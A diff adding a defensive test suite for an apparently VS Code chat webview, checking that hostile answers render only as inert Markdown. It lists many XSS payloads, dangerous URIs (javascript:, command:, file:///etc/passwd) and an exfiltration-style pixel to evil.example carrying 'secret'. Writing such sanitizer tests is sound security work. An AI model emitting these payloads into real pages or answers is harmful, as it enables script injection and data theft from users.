@@ -1,0 +1,227 @@
+import assert from 'node:assert/strict';
+import { answer, delta, message, question, stateOf } from './fixtures';
+import { type Chat, type ChatPage, startChat } from './harness';
+import { pieces } from './samples';
+
+const uris = [
+  ...[
+    'javascript:alert(1)',
+    'JAVASCRIPT:alert(1)',
+    'java\tscript:alert(1)',
+    '&#106;avascript:alert(1)',
+    'javascript&colon;alert(1)',
+  ],
+  ...[
+    '%6Aavascript:alert(1)',
+    '\u0001javascript:alert(1)',
+    'vbscript:msgbox(1)',
+    'data:text/html,<script>alert(1)</script>',
+  ],
+  ...[
+    'data:image/svg+xml;base64,PHN2Zy8+',
+    'data:image/png;base64,iVBORw0KGgo=',
+    'command:workbench.action.quit',
+    'CoMmAnD:x',
+  ],
+  ...[
+    'command:endpointChat.removeToken?%5B%5D',
+    'vscode://vscode.git/clone?url=x',
+    'vscode-webview-resource://x/etc/passwd',
+  ],
+  ...[
+    'vscode-resource:/etc/passwd',
+    'file:///etc/passwd',
+    'file://host/share',
+    '//evil.example/x',
+    '\\\\evil.example\\x',
+    '/x',
+    'x',
+  ],
+  ...[
+    'blob:https://evil.example/1',
+    'ws://evil.example',
+    'ftp://evil.example/',
+    'about:blank',
+    'tel:1',
+    'sms:1',
+    'intent://evil/#I;end',
+  ],
+];
+
+const templates = [
+  (uri: string) => `[link](${uri})`,
+  (uri: string) => `[link](<${uri}> "title")`,
+  (uri: string) => `![image](${uri})`,
+  (uri: string) => `[![image](${uri})](${uri})`,
+  (uri: string) => `<${uri}>`,
+  (uri: string) => `see ${uri} there`,
+  (uri: string) => `[link][r] ![image][r]\n\n[r]: ${uri} "title"`,
+];
+
+const fetching = 'https://evil.example/pixel?words=secret';
+
+const markup = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  `<img src="${fetching}">`,
+  `<iframe src="${fetching}"></iframe><object data="${fetching}"></object><embed src="${fetching}">`,
+  `<link rel="stylesheet" href="${fetching}"><style>@import "${fetching}";</style>`,
+  `<meta http-equiv="refresh" content="0;url=${fetching}"><base href="${fetching}">`,
+  `<form action="${fetching}"><input autofocus onfocus=alert(1)><button>Send</button></form>`,
+  `<svg onload=alert(1)><use href="${fetching}"/><image href="${fetching}"/></svg><math><mi xlink:href="${fetching}">`,
+  `<video src="${fetching}" autoplay></video><audio src="${fetching}"></audio><picture><source srcset="${fetching}"></picture>`,
+  `<a href="javascript:alert(1)">x</a><a href="${fetching}" ping="${fetching}">y</a><details open ontoggle=alert(1)>`,
+  '<div style="background:url(https://evil.example/a)" class="failure" id="app" role="alert">x</div>',
+  '<p onclick="alert(1)">x\n\n</p><!-- x --><?php x ?><![CDATA[ x ]]><!DOCTYPE html>',
+  '`<script>alert(1)</script>`\n\n```html "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
+  '| <img src=x onerror=alert(1)> | a |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example/t.png) |',
+  `![image](${fetching}) ![image][i]\n\n[i]: ${fetching}`,
+  `[![badge](${fetching})](${fetching})`,
+  '~~~"onmouseover="alert(1)\nx\n~~~',
+  '[link](https://example.com "\\" onmouseover=\\"alert(1)")',
+  `- [x] <img src="${fetching}">\n1. <b>bold</b>\n> <h1 id=x>heading</h1>`,
+];
+
+const payloads = [...templates.flatMap(template => uris.map(template)), ...markup];
+
+const names = [
+  ...markup.filter(text => !text.includes('\n')),
+  '"><b>',
+  "' onerror='alert(1)",
+  '</article><b>',
+  '&lt;b&gt;',
+  '{host}',
+  '$&',
+];
+
+/** Runs in the page: what is there that no answer may put there. */
+function foreign(selector: string): string[] {
+  const elements = new Set(
+    'P H1 H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD EM STRONG S BR HR A CODE PRE DIV SPAN INPUT BUTTON svg path'.split(
+      ' ',
+    ),
+  );
+  const attributes = new Set(
+    'class start type disabled checked aria-label aria-hidden title href rel data-language xmlns width height viewBox fill d'.split(
+      ' ',
+    ),
+  );
+  const found: string[] = [];
+  for (const element of document.querySelectorAll(`${selector} *`)) {
+    if (!elements.has(element.tagName)) found.push(element.outerHTML);
+    for (const { name, value } of element.attributes) {
+      if (!attributes.has(name)) found.push(element.outerHTML);
+      if (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) found.push(element.outerHTML);
+      if (name === 'href' && element.tagName !== 'A') found.push(element.outerHTML);
+    }
+  }
+  return found;
+}
+
+describe('A hostile answer', function () {
+  this.timeout(60_000);
+  let chat: Chat;
+  let opened: ChatPage;
+
+  before(async () => {
+    chat = await startChat();
+  });
+
+  beforeEach(async () => {
+    opened = await chat.open();
+  });
+
+  afterEach(async () => {
+    // Nothing was loaded, nothing was run, and the policy had nothing to refuse.
+    assert.deepEqual(opened.requests, []);
+    assert.deepEqual(opened.problems, []);
+    assert.deepEqual(
+      (await opened.posted()).filter(({ type }) => type !== 'ready'),
+      [],
+    );
+    await opened.close();
+  });
+
+  after(() => chat.stop());
+
+  it('puts nothing on the page but what Markdown is made of, shown at once', async () => {
+    await opened.tell(stateOf(payloads.map((text, index) => answer(`m${index}`, { text }))));
+    assert.equal(await opened.page.locator('.markdown').count(), payloads.length);
+    assert.deepEqual(await opened.page.evaluate(foreign, '.markdown'), []);
+  });
+
+  it('puts nothing else on the page while it streams either', async () => {
+    const ids = payloads.map((_, index) => `m${index}`);
+    await opened.tell(
+      stateOf(
+        ids.map(id => answer(id, { status: 'waiting' })),
+        { busy: true },
+      ),
+    );
+    const cut = payloads.map((text, index) => pieces(text, index + 1, 20));
+    for (let round = 0; cut.some(parts => parts[round] !== undefined); round++) {
+      await opened.tell(...ids.map((id, index) => delta(id, cut[index]?.[round] ?? '')));
+      assert.deepEqual(await opened.page.evaluate(foreign, '.markdown'), []);
+    }
+    await opened.tell(...ids.map((id, index) => message(answer(id, { text: payloads[index] ?? '' }))));
+    assert.deepEqual(await opened.page.evaluate(foreign, '.markdown'), []);
+  });
+
+  it('gets no link at all out of an address that may not be clicked', async () => {
+    const texts = templates.flatMap(template => uris.map(template));
+    await opened.tell(stateOf(texts.map((text, index) => answer(`m${index}`, { text }))));
+    const links = await opened.page
+      .locator('.markdown a')
+      .evaluateAll(all => all.map(link => link.getAttribute('href')));
+    // Inside `blob:` and `view-source:` a bare web address is still a web address.
+    assert.deepEqual(
+      links.filter(href => !/^(?:https:\/\/evil\.example\/1)$/.test(href ?? '')),
+      [],
+    );
+  });
+
+  it('names its images, links them where they may be clicked, and never loads them', async () => {
+    await opened.tell(
+      stateOf([answer('m', { text: `![a *cat*](${fetching}) ![](${fetching}) ![dog](data:image/png,x)` })]),
+    );
+    const { page } = opened;
+    assert.equal(await page.locator('.markdown').textContent(), 'Image: a cat Image Image: dog');
+    assert.equal(await page.getByRole('link', { name: 'Image: a cat' }).getAttribute('href'), fetching);
+    assert.equal(await page.getByRole('link', { name: 'dog' }).count(), 0);
+  });
+
+  it('is plain text as reasoning', async () => {
+    await opened.tell(stateOf([answer('m', { text: 'x', reasoning: payloads.join('\n') })]));
+    assert.equal(await opened.page.locator('.reasoning-text').textContent(), payloads.join('\n'));
+    assert.equal(await opened.page.locator('.reasoning-text *').count(), 0);
+  });
+
+  for (const [index, name] of names.entries()) {
+    it(`is plain text as a name, an error or a chip: ${name.slice(0, 40)}`, async () => {
+      const shape = () =>
+        opened.page.evaluate(() => [...document.querySelectorAll('#app *')].map(({ tagName }) => tagName).join(' '));
+      const scene = (text: string) =>
+        stateOf(
+          [
+            question('q', text, { chips: [{ label: text, detail: text }] }),
+            answer('a', {
+              model: text,
+              endpoint: text,
+              status: 'failed',
+              notice: text,
+              summary: text,
+              error: { title: text, serverMessage: text, request: text, remedies: [{ remedy: 'retry', label: text }] },
+            }),
+          ],
+          { title: text, notSaved: text, target: { endpoint: text, model: text, host: text } },
+        );
+      await opened.tell(scene('harmless'));
+      const harmless = await shape();
+      await opened.tell(stateOf([]), scene(`${name} ${index}`));
+      assert.equal(await shape(), harmless);
+      assert.equal(await opened.page.locator('.words').textContent(), `${name} ${index}`);
+      await opened.tell(stateOf([], { title: name, target: { endpoint: name, model: name, host: name } }));
+      assert.equal(await opened.page.locator('.welcome strong').textContent(), name);
+    });
+  }
+});
